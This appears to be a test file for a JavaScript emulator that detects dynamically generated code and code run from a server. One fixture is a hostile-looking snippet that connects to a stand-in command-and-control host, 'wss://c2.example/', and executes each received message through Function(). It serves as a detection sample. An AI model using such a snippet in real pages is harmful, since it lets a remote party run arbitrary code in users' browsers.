import assert from 'node:assert/strict';
import { summarise } from '../../../analyzer/emulator/index.ts';
import { requestsOf, run, seen } from './sandbox-of-tests.ts';

describe('emulator: code made at run time', () => {
  it('runs inline scripts, and those that document.write brings, as children', async () => {
    const trace = await run(`
      var s = document.createElement('script'); s.text = 'window.a = 1'; document.head.appendChild(s);
      document.write('<script>window.b = 2<\\/script>'); eval('window.c = 3'); new Function('window.d = 4')();
      setTimeout('window.e = 5', 1); fetch('https://c.example/' + [a, b, c, d].join(''));`);
    assert.deepEqual(summarise(trace).dynamicCode, [
      'Function',
      'document-write',
      'eval',
      'inline-script',
      'timer',
    ]);
    assert.equal(requestsOf(trace)[0]?.url, 'https://c.example/1234');
  });

  it('keeps direct eval direct, and function texts as they were', async () => {
    assert.equal(
      await seen(
        "(function () { var local = 'in'; return eval('local') + (function f() { eval('1') }).toString() })()",
      ),
      "infunction f() { eval('1') }",
    );
  });

  it('hides its marks on imports', async () => {
    assert.equal(
      await seen("(function f() { return import('./x') }).toString()"),
      "function f() { return import('./x') }",
    );
  });

  it('marks code that came from a server', async () => {
    const trace = await run(
      "var w = new WebSocket('wss://c2.example/'); w.onmessage = function (e) { Function(e.data)() }",
    );
    assert.equal(summarise(trace).runsRemoteCode, true);
  });
});
